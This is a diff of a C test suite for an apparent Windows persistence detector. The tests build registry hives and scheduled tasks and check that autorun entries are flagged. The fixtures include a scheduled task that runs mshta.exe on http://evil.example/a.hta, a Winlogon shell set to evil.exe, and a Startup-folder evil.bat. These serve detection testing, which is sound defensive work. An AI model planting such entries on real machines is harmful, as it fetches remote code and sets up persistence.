@@ -40,7 +40,9 @@ static void make_hive(cr_buf *out, const char *json)
     pathf(hive, "%s/hive-%d", scratch, seq);
     seq++;
     write_at(scratch, strrchr(spec, '/') + 1, json, strlen(json));
-    snprintf(cmd, sizeof(cmd), "python3 '%s' -o '%s' '%s'", mkhive, hive, spec);
+    /* The system's interpreter when there is one: version-manager shims are slow to start. */
+    const char *py = access("/usr/bin/python3", X_OK) == 0 ? "/usr/bin/python3" : "python3";
+    snprintf(cmd, sizeof(cmd), "%s '%s' -o '%s' '%s'", py, mkhive, hive, spec);
     REQUIRE(system(cmd) == 0);
     cr_buf_free(out);
     REQUIRE(cr_fs_read_all(out, AT_FDCWD, hive, 64u << 20) == 0);
@@ -183,12 +185,13 @@ static void test_ntuser(void)
     const hn_autorun *e;
 
     /* Key names in other cases than Windows' own: found all the same. */
-    make_hive(&b, "{\"name\": \"NTUSER.DAT\", \"keys\": {"
-                  " \"SOFTWARE/microsoft/WINDOWS/currentversion/run\": {"
-                  "   \"OneDrive\": \"C:\\\\Users\\\\bob\\\\AppData\\\\Local\\\\od.exe /background\"},"
-                  " \"Software/Microsoft/Windows NT/CurrentVersion/Winlogon\": {"
-                  "   \"shell\": \"evil.exe\"},"
-                  " \"Environment\": {\"TEMP\": \"x\"}}}");
+    make_hive(&b,
+              "{\"name\": \"NTUSER.DAT\", \"keys\": {"
+              " \"SOFTWARE/microsoft/WINDOWS/currentversion/run\": {"
+              "   \"OneDrive\": \"C:\\\\Users\\\\bob\\\\AppData\\\\Local\\\\od.exe /background\"},"
+              " \"Software/Microsoft/Windows NT/CurrentVersion/Winlogon\": {"
+              "   \"shell\": \"evil.exe\"},"
+              " \"Environment\": {\"TEMP\": \"x\"}}}");
     CHECK_OK(hn_hive_autoruns(&a, &n, b.ptr, b.len));
     CHECK(n == 2);
     CHECK(entries_sane(a, n));
@@ -291,7 +294,8 @@ static void test_strings(void)
     CHECK_OK(hn_hive_autoruns(&a, &n, b.ptr, b.len));
     CHECK(entries_sane(a, n));
     e = find(a, n, run, "Lone");
-    CHECK(e && !strcmp(e->data, "A\xef\xbf\xbd" "B"));
+    CHECK(e && !strcmp(e->data, "A\xef\xbf\xbd"
+                                "B"));
     e = find(a, n, run, "Nul");
     CHECK(e && !strcmp(e->data, "a"));
     e = find(a, n, run, "Ctl");
@@ -367,8 +371,9 @@ static void test_hostile_counts(void)
         size_t cap = 200000 + (size_t)count * 64;
         char *spec = malloc(cap);
         REQUIRE(spec);
-        int k = snprintf(spec, cap,
-                         "{\"keys\": {\"Microsoft/Windows/CurrentVersion/Run\": {\"v0\": {\"sz\": \"");
+        int k =
+            snprintf(spec, cap,
+                     "{\"keys\": {\"Microsoft/Windows/CurrentVersion/Run\": {\"v0\": {\"sz\": \"");
         for (int i = 0; i < 29999; i++)
             spec[k++] = 'x';
         k += snprintf(spec + k, cap - (size_t)k, "\"}");
@@ -424,7 +429,8 @@ static void test_damaged(void)
         for (int f = 0; f < flips; f++) {
             uint8_t x[4];
             fill_random(x, sizeof(x));
-            size_t pos = 0x1000 + ((size_t)x[0] << 16 | (size_t)x[1] << 8 | x[2]) % (b.len - 0x1000);
+            size_t pos =
+                0x1000 + ((size_t)x[0] << 16 | (size_t)x[1] << 8 | x[2]) % (b.len - 0x1000);
             c.ptr[pos] ^= (uint8_t)(1u << (x[3] % 8));
         }
         int err = hn_hive_autoruns(&a, &n, c.ptr, b.len);
@@ -448,9 +454,9 @@ static void test_damaged(void)
         uint8_t x[8];
         memcpy(c.ptr, b.ptr, b.len);
         fill_random(x, sizeof(x));
-        size_t pos = 0x1000 + (((size_t)x[0] << 16 | (size_t)x[1] << 8 | x[2]) %
-                               (b.len - 0x1000)) / 4 * 4;
-        uint32_t v = x[4] & 1 ? (uint32_t)x[5] << 8 | x[6] : (uint32_t)-(int32_t)(x[5] * 8);
+        size_t pos =
+            0x1000 + (((size_t)x[0] << 16 | (size_t)x[1] << 8 | x[2]) % (b.len - 0x1000)) / 4 * 4;
+        uint32_t v = x[4] & 1 ? (uint32_t)x[5] << 8 | x[6] : (uint32_t) - (int32_t)(x[5] * 8);
         if (x[7] & 1)
             v = 0xffffffffu - x[5];
         put32(c.ptr + pos, v);
@@ -629,8 +635,9 @@ static size_t count_on(const win_run *w, const char *path, cr_severity min)
 #define STARTUP "/ProgramData/Microsoft/Windows/Start Menu/Programs/Startup/"
 #define TASKS "/Windows/System32/Tasks/"
 #define RUNKEY "Microsoft\\Windows\\CurrentVersion\\Run\\"
-#define DEFRAG "<Exec><Command>%windir%\\system32\\defrag.exe</Command><Arguments>-c -h -o -$" \
-               "</Arguments></Exec>"
+#define DEFRAG                                                                                     \
+    "<Exec><Command>%windir%\\system32\\defrag.exe</Command><Arguments>-c -h -o -$"                \
+    "</Arguments></Exec>"
 
 static const char *default_user_spec =
     "{\"keys\": {\"Software/Microsoft/Windows/CurrentVersion/RunOnce\": {"
@@ -679,7 +686,11 @@ static void test_windows(void)
     bo.time_ns = 1700000000000000000ll;
     REQUIRE(cr_backup(&a, w.repo, paths, 1, &bo) == 0);
 
-    static const char *day1[] = {SW, SY, ALICE, DEFUSER, STARTUP "desktop.ini",
+    static const char *day1[] = {SW,
+                                 SY,
+                                 ALICE,
+                                 DEFUSER,
+                                 STARTUP "desktop.ini",
                                  STARTUP "Helper.lnk",
                                  TASKS "Microsoft/Windows/Defrag/ScheduledDefrag",
                                  TASKS "Microsoft/Windows/Updates/Refresh"};
@@ -727,9 +738,10 @@ static void test_windows(void)
     {
         /* Make it larger than its first bin: a hive of 3 pages, cut inside the last. */
         char big[12000];
-        int k = snprintf(big, sizeof(big), "{\"keys\": {\"Software/Microsoft/Windows/CurrentVersion/"
-                                           "Run\": {\"OneDrive\": \"x.exe\"}, \"Software/Big\": "
-                                           "{\"Blob\": {\"binary\": \"");
+        int k = snprintf(big, sizeof(big),
+                         "{\"keys\": {\"Software/Microsoft/Windows/CurrentVersion/"
+                         "Run\": {\"OneDrive\": \"x.exe\"}, \"Software/Big\": "
+                         "{\"Blob\": {\"binary\": \"");
         for (int i = 0; i < 5000; i++)
             k += snprintf(big + k, sizeof(big) - (size_t)k, "00");
         snprintf(big + k, sizeof(big) - (size_t)k, "\"}}}}");
@@ -737,18 +749,20 @@ static void test_windows(void)
         REQUIRE(buf.len > 0x2000);
     }
     put_file(win, "Users/alice/NTUSER.DAT", buf.ptr, buf.len - 1000);
-    put_hive(win, "Users/bob/NTUSER.DAT",
-             "{\"keys\": {\"Software/Microsoft/Windows/CurrentVersion/RunOnce\": {"
-             " \"OneDriveSetup\": \"C:\\\\Windows\\\\System32\\\\OneDriveSetup.exe /thfirstsetup\"},"
-             " \"Software/Microsoft/Windows/CurrentVersion/Run\": {\"Helper\": "
-             "   \"\\\"C:\\\\Program Files\\\\H\\\\h.exe\\\"\"}}}");
+    put_hive(
+        win, "Users/bob/NTUSER.DAT",
+        "{\"keys\": {\"Software/Microsoft/Windows/CurrentVersion/RunOnce\": {"
+        " \"OneDriveSetup\": \"C:\\\\Windows\\\\System32\\\\OneDriveSetup.exe /thfirstsetup\"},"
+        " \"Software/Microsoft/Windows/CurrentVersion/Run\": {\"Helper\": "
+        "   \"\\\"C:\\\\Program Files\\\\H\\\\h.exe\\\"\"}}}");
     put_file(win, STARTUP "evil.bat" + 1, "@echo off\r\n", 11);
     put_file(win, STARTUP "Helper.lnk" + 1, "L\0\0\0lnk-v2", 10);
     put_task(win, TASKS "Microsoft/Windows/Defrag/ScheduledDefrag" + 1, DEFRAG,
              "<Author>Microsoft</Author>");
     put_task(win, TASKS "Evil" + 1,
              "<Exec><Command>mshta.exe</Command><Arguments>http://evil.example/a.hta"
-             "</Arguments></Exec>", "");
+             "</Arguments></Exec>",
+             "");
     put_task(win, TASKS "Vendor Update" + 1,
              "<Exec><Command>\"C:\\Program Files\\Vendor\\upd.exe\"</Command></Exec>", "");
     put_task(win, TASKS "Microsoft/Windows/Updates/Other" + 1,
@@ -882,13 +896,35 @@ static void test_windows(void)
     f = found(&w, STARTUP "Helper.lnk", "persistence:startup-folder", NULL);
     CHECK(f && f->severity == CR_SEV_MEDIUM);
 
-    /* Not Windows persistence: nothing. */
-    size_t before = w.ctx.nout;
-    judge(&w, b, c, "/Windows/System32/config/SOFTWARE" + 0);
-    CHECK(w.ctx.nout > before);
-    before = w.ctx.nout;
-    CHECK_OK(hn_persist_windows(&w.ctx, "/Users/alice/Documents/NTUSER.DAT", NULL, NULL));
-    CHECK(w.ctx.nout == before);
+    /* Elsewhere, removed, or not a file: nothing. A hive, a task and a Startup
+     * item under other names or places are not judged. */
+    {
+        static const char *elsewhere[] = {"/Users/alice/Documents/NTUSER.DAT",
+                                          "/Windows/System32/config/RegBack/SOFTWARE",
+                                          "/Windows/System32/config/SOFTWARE.LOG1",
+                                          "/etc/crontab",
+                                          "/Windows/Tasks/SchedLgU.Txt",
+                                          STARTUP "sub/evil.exe",
+                                          "/Windows/System32/Tasks",
+                                          "/"};
+        char full[PATH_MAX];
+        cr_node nn, dir;
+        pathf(full, "%s%s", c->paths[0], SW);
+        REQUIRE(cr_snapshot_lookup(&nn, w.repo, c, full) == 0);
+        pathf(full, "%s%s", c->paths[0], "/Windows/System32/Tasks");
+        REQUIRE(cr_snapshot_lookup(&dir, w.repo, c, full) == 0);
+        size_t before = w.ctx.nout;
+        for (size_t i = 0; i < sizeof(elsewhere) / sizeof(elsewhere[0]); i++)
+            CHECK_OK(hn_persist_windows(&w.ctx, elsewhere[i], NULL, &nn));
+        CHECK_OK(hn_persist_windows(&w.ctx, SW, &nn, NULL));
+        CHECK_OK(hn_persist_windows(&w.ctx, TASKS "Evil", NULL, &dir));
+        CHECK(w.ctx.nout == before);
+        /* The same places in another case: judged. */
+        CHECK_OK(hn_persist_windows(&w.ctx, "/windows/SYSTEM32/Config/software", NULL, &nn));
+        CHECK(w.ctx.nout > before);
+        cr_node_clear(&nn);
+        cr_node_clear(&dir);
+    }
 
     cr_findings_free(w.ctx.out, w.ctx.nout);
     cr_findings_free(w.prev, w.nprev);
